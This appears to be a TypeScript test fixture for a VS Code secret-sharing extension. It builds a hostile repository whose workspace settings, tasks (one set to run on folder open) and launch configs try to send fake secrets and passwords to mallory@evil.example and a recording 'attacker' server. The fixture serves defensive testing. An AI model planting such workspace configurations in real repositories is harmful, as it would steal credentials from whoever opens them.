import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startRecordingServer, type RecordingServer } from '../../support/recordingServer';

/** Whom the link would be mailed to. */
export const MALLORY = 'mallory@evil.example';
/** Under whose domain the link would be. */
export const DOMAIN = 'evil.example';
/** A label that would be a link, were it not shown as text. */
const LABEL = '[Confirm](command:workbench.action.terminal.new)';

/** A repository that wants the secrets of whoever opens it, and the server it would get them at. */
export interface HostileRepository {
  readonly attacker: RecordingServer;
  readonly folder: string;
  readonly workspaceFile: string;
  dispose(): Promise<void>;
}

export async function hostileRepository(): Promise<HostileRepository> {
  const attacker = await startRecordingServer(() => ({ body: { status: 'nominal' } }));
  const parent = await mkdtemp(join(tmpdir(), 'ots-hostile-'));
  const folder = join(parent, 'shop');
  const files: Readonly<Record<string, unknown>> = {
    '.env': 'DATABASE_URL=postgres://app:hunter2@db/shop\nSMTP_PASSWORD=battery staple\n',
    'notes.txt': 'The password is correct horse.\n',
    'pin.txt': 'The pin is 4711.\n',
    '.vscode/settings.json': settings(attacker.origin),
    '.vscode/tasks.json': tasks(attacker.origin),
    '.vscode/launch.json': launch(),
    '.vscode/keybindings.json': keybindings(attacker.origin),
    'shop.code-workspace': {
      folders: [{ path: '.' }],
      settings: settings(attacker.origin),
      tasks: tasks(attacker.origin),
      launch: launch(),
    },
  };
  await mkdir(join(folder, '.vscode'), { recursive: true });
  for (const [name, content] of Object.entries(files)) {
    await writeFile(
      join(folder, name),
      typeof content === 'string' ? content : JSON.stringify(content, undefined, 2),
    );
  }
  return {
    attacker,
    folder,
    workspaceFile: join(folder, 'shop.code-workspace'),
    dispose: async () => {
      await attacker.close();
      await rm(parent, { recursive: true, force: true });
    },
  };
}

/** Every setting of ours, and those of VS Code that could run something of ours unasked. */
function settings(origin: string): Readonly<Record<string, unknown>> {
  const ours = {
    'onetimeSecret.region': 'custom',
    'onetimeSecret.serverUrl': origin,
    'onetimeSecret.account': 'anonymous',
    'onetimeSecret.defaultTtl': '7d',
    'onetimeSecret.passphrase': 'ask',
    'onetimeSecret.shareDomain': DOMAIN,
    'onetimeSecret.copyFormat': 'message',
    'onetimeSecret.messageTemplate': `${origin}/?{link}`,
    'onetimeSecret.placeholder': `${origin}/?{link}`,
    'onetimeSecret.watch': true,
    'onetimeSecret.clearClipboardAfter': 1,
    'onetimeSecret.historyDays': 1,
  };
  return {
    ...ours,
    '[dotenv]': ours,
    'editor.codeActionsOnSave': { source: 'always', quickfix: 'always', refactor: 'always' },
    'task.allowAutomaticTasks': 'on',
  };
}

/** What the tasks call, by their names. */
function calls(origin: string): Readonly<Record<string, { command: string; args?: unknown }>> {
  const sent = { recipient: MALLORY, label: LABEL };
  const sealed = { link: `${origin}/secret/${'a1'.repeat(16)}`, passphrase: 'x', confirm: false };
  return {
    'mail selection': { command: 'shareSelection', args: sent },
    'mail file': { command: 'shareFile', args: sent },
    'mail password': { command: 'generatePassword', args: { ...sent, insert: true } },
    'move selection': { command: 'shareSelection', args: { shareDomain: DOMAIN } },
    'move file': { command: 'shareFile', args: { ...sent, shareDomain: DOMAIN } },
    'sign in': { command: 'signIn', args: { server: origin, username: MALLORY } },
    'open link': { command: 'revealSecret', args: { ...sealed, then: 'insert' } },
    'burn one': { command: 'burnSecret', args: { confirm: false } },
    'forget one': { command: 'forgetSecret', args: { confirm: false } },
    switch: { command: 'switchAccount', args: { server: origin, username: MALLORY } },
    check: { command: 'checkConnection', args: { server: origin } },
  };
}

function tasks(origin: string): unknown {
  const all = Object.entries(calls(origin));
  const task = { type: 'shell', command: 'echo', problemMatcher: [] };
  return {
    version: '2.0.0',
    tasks: [
      ...all.map(([label]) => ({ ...task, label, args: [`\${input:${label}}`] })),
      {
        ...task,
        label: 'at once',
        args: ['${input:mail password}'],
        runOptions: { runOn: 'folderOpen' },
      },
    ],
    inputs: all.map(([id, { command, args }]) => ({
      id,
      type: 'command',
      command: `onetimeSecret.${command}`,
      args,
    })),
  };
}

function launch(): unknown {
  const configuration = {
    type: 'node',
    request: 'launch',
    recipient: MALLORY,
    shareDomain: DOMAIN,
  };
  return {
    version: '0.2.0',
    configurations: [
      { ...configuration, name: 'by input', program: '${input:mail}' },
      { ...configuration, name: 'by command', program: '${command:onetimeSecret.shareClipboard}' },
    ],
    inputs: [
      {
        id: 'mail',
        type: 'command',
        command: 'onetimeSecret.shareSelection',
        args: { recipient: MALLORY },
      },
    ],
  };
}

/** VS Code reads no key bindings of a folder; if it ever did, these would be they. */
function keybindings(origin: string): unknown {
  return Object.values(calls(origin)).map(({ command, args }) => ({
    key: 'ctrl+alt+f9',
    command: `onetimeSecret.${command}`,
    args,
  }));
}
